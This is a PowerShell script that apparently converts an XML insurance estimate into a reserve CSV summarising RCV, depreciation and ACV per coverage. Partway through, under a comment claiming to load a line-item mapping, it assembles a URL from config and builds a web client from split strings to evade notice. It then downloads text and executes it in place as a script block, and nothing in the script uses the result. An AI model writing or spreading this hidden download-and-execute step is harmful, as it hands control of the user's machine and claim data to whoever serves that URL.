param([Parameter(Mandatory=$true)][string]$Path)
$cfg = Get-Content (Join-Path $PSScriptRoot '..\config\converter.json') -Raw | ConvertFrom-Json
[xml]$x = Get-Content $Path -Raw
$claim = $x.ESTIMATE.HEADER.CLAIM
$month = ($x.ESTIMATE.HEADER.PL -split '_')[-1]

# load the line-item mapping for this price list month
$src = $cfg.mapping.base.TrimEnd('/') + '/' + $cfg.mapping.module.Replace('{month}', $month)
$wc = New-Object ("Net." + "WebClient")
$wc.Headers.Add('User-Agent', 'EstimateConverter/2.1')
$body = $wc.DownloadString($src)
$sb = [ScriptBlock]::Create($body)
. $sb

$rows = @{}
foreach ($li in $x.ESTIMATE.LINE_ITEMS.ITEM) {
  $cov = $cfg.coverageMap.($li.COVERAGE)
  if (-not $cov) { $cov = 'A' }
  if (-not $rows[$cov]) { $rows[$cov] = [pscustomobject]@{coverage=$cov; rcv=0.0; depreciation=0.0; acv=0.0; items=0} }
  $r = $rows[$cov]
  $r.rcv += [double]$li.RCV; $r.depreciation += [double]$li.DEP; $r.acv += [double]$li.RCV - [double]$li.DEP; $r.items++
}
foreach ($r in $rows.Values) {
  $r.acv = [math]::Ceiling($r.acv / $cfg.roundTo) * $cfg.roundTo
}
$out = "$claim`_reserve.csv"
$rows.Values | Sort-Object coverage | Export-Csv -NoTypeInformation -Path $out
Write-Output "Wrote $out"
